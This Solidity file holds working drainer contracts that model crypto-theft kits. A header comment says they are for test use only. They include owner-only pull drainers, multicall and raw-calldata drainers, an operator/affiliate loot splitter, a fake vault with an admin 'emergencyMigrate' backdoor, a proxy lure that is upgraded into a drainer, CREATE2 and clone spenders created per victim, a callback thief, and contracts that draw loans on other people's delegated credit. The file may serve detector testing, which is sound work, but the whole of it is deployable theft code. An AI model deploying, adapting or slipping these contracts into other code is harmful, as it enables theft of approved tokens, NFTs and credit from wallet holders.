// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";
import {IERC1155} from "@openzeppelin/contracts/token/ERC1155/IERC1155.sol";
import {ERC1967Proxy} from "@openzeppelin/contracts/proxy/ERC1967/ERC1967Proxy.sol";

/// Shapes of what drainer kits deploy. Each pulls what victims approved; the names are the kits'. Test use only.

/// One owner, one token at a time.
contract PullDrainer {
    address public owner = msg.sender;

    modifier onlyOwner() {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        _;
    }

    function pull(address token, address from, uint256 amount) external onlyOwner {
        require(IERC20(token).transferFrom(from, owner, amount), "pull");
    }

    function pullNft(address collection, address from, uint256 id) external onlyOwner {
        IERC721(collection).transferFrom(from, owner, id);
    }

    function pullItems(address collection, address from, uint256 id, uint256 amount) external onlyOwner {
        IERC1155(collection).safeTransferFrom(from, owner, id, amount, "");
    }
}

/// Whole portfolios by arrays, loot to the caller; several workers may call.
contract ArrayDrainer {
    mapping(address => bool) public workers;

    constructor() {
        workers[msg.sender] = true;
    }

    function batchTransferFrom(address[] calldata tokens, address[] calldata from, uint256[] calldata amounts)
        external
    {
        require(workers[msg.sender], "worker");
        for (uint256 i = 0; i < tokens.length; i++) {
            (bool done,) =
                tokens[i].call(abi.encodeCall(IERC20.transferFrom, (from[i], msg.sender, amounts[i])));
            require(done, "transferFrom");
        }
    }
}

/// Any calls, for its owner: the shape of most kits since 2023 (Inferno, Angel, Pink).
contract MulticallDrainer {
    struct Call {
        address target;
        uint256 value;
        bytes data;
    }

    address private immutable _boss = msg.sender;

    receive() external payable {}

    function multicall(Call[] calldata calls) external payable returns (bytes[] memory results) {
        require(tx.origin == _boss, "not authorized");
        results = new bytes[](calls.length);
        for (uint256 i = 0; i < calls.length; i++) {
            bool done;
            (done, results[i]) = calls[i].target.call{value: calls[i].value}(calls[i].data);
            require(done, "call failed");
        }
    }
}

/// Splits the loot between operator and affiliate, as drainers-as-a-service do.
contract SplitDrainer {
    address private _operator = msg.sender;
    address private _affiliate;

    constructor(address affiliate) {
        _affiliate = affiliate;
    }

    function claimTokens(address token, address victim) external {
        require(msg.sender == _operator || msg.sender == _affiliate, "denied");
        uint256 held = IERC20(token).balanceOf(victim);
        uint256 allowed = IERC20(token).allowance(victim, address(this));
        uint256 amount = held < allowed ? held : allowed;
        IERC20(token).transferFrom(victim, _operator, (amount * 20) / 100);
        IERC20(token).transferFrom(victim, _affiliate, amount - (amount * 20) / 100);
    }
}

/// No functions at all: the fallback reads packed bytes, and only its maker may call.
contract RawDrainer {
    address private immutable _maker = msg.sender;

    fallback() external payable {
        require(msg.sender == _maker);
        address token = address(bytes20(msg.data[0:20]));
        address victim = address(bytes20(msg.data[20:40]));
        IERC20(token).transferFrom(victim, _maker, IERC20(token).balanceOf(victim));
    }

    receive() external payable {}
}

/// Nobody guards it: whoever calls first takes what was approved.
contract OpenPuller {
    function transferTokens(address token, address from, address to, uint256 amount) external {
        require(IERC20(token).transferFrom(from, to, amount), "transferFrom");
    }
}

/// A vault in name: `deposit` works, and an "emergency" function lets the admin pull from those who approved it.
contract FakeVault {
    address public admin = msg.sender;
    mapping(address => mapping(address => uint256)) public deposits;

    function deposit(address token, uint256 amount) external {
        require(IERC20(token).transferFrom(msg.sender, address(this), amount), "deposit");
        deposits[token][msg.sender] += amount;
    }

    function withdraw(address token, uint256 amount) external {
        deposits[token][msg.sender] -= amount;
        require(IERC20(token).transfer(msg.sender, amount), "withdraw");
    }

    function emergencyMigrate(address token, address user, uint256 amount) external {
        require(msg.sender == admin, "admin");
        require(IERC20(token).transferFrom(user, admin, amount), "migrate");
    }
}

/// Behind a proxy: harmless while the victim approves, a drainer after the upgrade.
contract Harmless {
    function version() external pure returns (uint256) {
        return 1;
    }
}

contract UpgradeableLure is ERC1967Proxy {
    address private immutable _keeper = msg.sender;

    constructor(address implementation) ERC1967Proxy(implementation, "") {}

    function _unsafeAllowUninitialized() internal pure override returns (bool) {
        return true;
    }

    function _fallback() internal override {
        if (msg.sender == _keeper && msg.sig == bytes4(keccak256("upgradeTo(address)"))) {
            (bytes32 slot, address code) =
                (0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, abi.decode(msg.data[4:], (address)));
            assembly {
                sstore(slot, code)
                return(0, 0)
            }
        }
        super._fallback();
    }

    receive() external payable {}
}

contract ImplementationDrainer {
    function take(address token, address from, address to, uint256 amount) external {
        require(IERC20(token).transferFrom(from, to, amount), "take");
    }
}

/// EIP-1167 clones of one drainer, a fresh one for each victim; the master is set up by `init`.
contract CloneDrainer {
    address public owner;

    function init(address owner_) external {
        require(owner == address(0), "set");
        owner = owner_;
    }

    function withdrawFrom(address token, address from) external {
        require(msg.sender == owner, "owner");
        uint256 held = IERC20(token).balanceOf(from);
        uint256 allowed = IERC20(token).allowance(from, address(this));
        IERC20(token).transferFrom(from, owner, held < allowed ? held : allowed);
    }
}

/// CREATE2: the spender has no code until the victim has signed (Inferno and Angel Drainer, 2023).
contract LateSpender {
    constructor(address token, address victim, address to) {
        if (token == address(0)) return;
        uint256 held = IERC20(token).balanceOf(victim);
        uint256 allowed = IERC20(token).allowance(victim, address(this));
        IERC20(token).transferFrom(victim, to, held < allowed ? held : allowed);
    }

    function multicall(address[] calldata targets, bytes[] calldata data) external {
        for (uint256 i = 0; i < targets.length; i++) {
            (bool done,) = targets[i].call(data[i]);
            require(done, "call failed");
        }
    }
}

contract Factory {
    function deploy(bytes32 salt, bytes calldata code) external returns (address made) {
        bytes memory creation = code;
        assembly {
            made := create2(0, add(creation, 32), mload(creation), salt)
        }
        require(made != address(0), "create2");
    }

    function clone(address master, bytes32 salt) external returns (address made) {
        bytes memory creation = abi.encodePacked(
            hex"3d602d80600a3d3981f3363d3d373d3d3d363d73", master, hex"5af43d82803e903d91602b57fd5bf3"
        );
        assembly {
            made := create2(0, add(creation, 32), mload(creation), salt)
        }
        require(made != address(0), "create2");
    }
}

/// ERC-777-like trick: a token callback of the thief's runs while the victim's call is under way.
contract CallbackThief {
    address public owner = msg.sender;
    address private _token;

    function aim(address token) external {
        require(msg.sender == owner, "owner");
        _token = token;
    }

    /// Called by `approveAndCall`: the allowance is used in the same transaction.
    function receiveApproval(address from, uint256 amount) external {
        IERC20(_token).transferFrom(from, owner, amount);
    }

    fallback() external {
        IERC20 token = IERC20(msg.sender);
        token.transferFrom(tx.origin, owner, token.balanceOf(tx.origin));
    }
}

/// Anyone's calls for anyone: what Uniswap V3's interface multicall and Multicall3 are, at an address nobody has listed.
contract FreshForwarder {
    struct Call3 {
        address target;
        bool allowFailure;
        bytes callData;
    }

    function aggregate3(Call3[] calldata calls) external payable {
        for (uint256 i = 0; i < calls.length; i++) {
            (bool done,) = calls[i].target.call(calls[i].callData);
            require(done || calls[i].allowFailure, "Multicall3: call failed");
        }
    }

    function forward(address target, bytes calldata data) external payable {
        (bool done,) = target.call{value: msg.value}(data);
        require(done, "forward");
    }
}

interface ILender {
    function borrow(address asset, uint256 amount, uint256 mode, uint16 code, address onBehalfOf) external;
}

/// Draws loans in the name of those who delegated their credit to it, for its owner.
contract LoanDrawer {
    address private immutable _owner = msg.sender;

    function draw(address lender, address debtor, address asset, uint256 amount) external {
        require(msg.sender == _owner, "owner");
        ILender(lender).borrow(asset, amount, 2, 0, debtor);
        IERC20(asset).transfer(_owner, amount);
    }
}

/// Receives the flash loans of whoever names it, for its owner: the lender then opens a debt of the caller's.
contract LoanReceiver {
    address private immutable _owner = msg.sender;

    function executeOperation(address[] calldata assets, uint256[] calldata amounts, uint256[] calldata, address, bytes calldata)
        external
        returns (bool)
    {
        for (uint256 i = 0; i < assets.length; i++) IERC20(assets[i]).transfer(_owner, amounts[i]);
        return true;
    }
}

/// As RawDrainer, with a command byte and the packed words in another order.
contract RawCommander {
    address private immutable _maker = msg.sender;

    fallback() external payable {
        require(tx.origin == _maker);
        uint128 amount = uint128(bytes16(msg.data[1:17]));
        address victim = address(bytes20(msg.data[17:37]));
        address token = address(bytes20(msg.data[37:57]));
        if (uint8(msg.data[0]) == 1) IERC20(token).transferFrom(victim, _maker, amount);
    }
}
